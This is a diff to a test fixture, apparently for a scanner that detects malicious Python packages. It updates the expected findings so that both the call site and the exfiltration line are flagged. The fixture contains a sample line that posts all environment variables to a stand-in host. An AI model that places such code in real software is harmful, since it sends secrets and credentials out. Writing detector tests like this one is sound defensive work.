@@ -131,6 +131,10 @@ export const PYTHON: Samples['malicious'] = [
       'own/deep.py':
         "import os, requests\ndef run():\n    requests.post('https://a.weir.test/x', json=dict(os.environ))\n",
     },
-    expected: [{ rule: 'environment', file: 'own/deep.py', line: 3, severity: 'high' }],
+    // What is called and where it is called: both lines are the attack's.
+    expected: [
+      { rule: 'environment', file: 'own/__init__.py', line: 2, severity: 'high' },
+      { rule: 'environment', file: 'own/deep.py', line: 3, severity: 'high' },
+    ],
   },
 ];
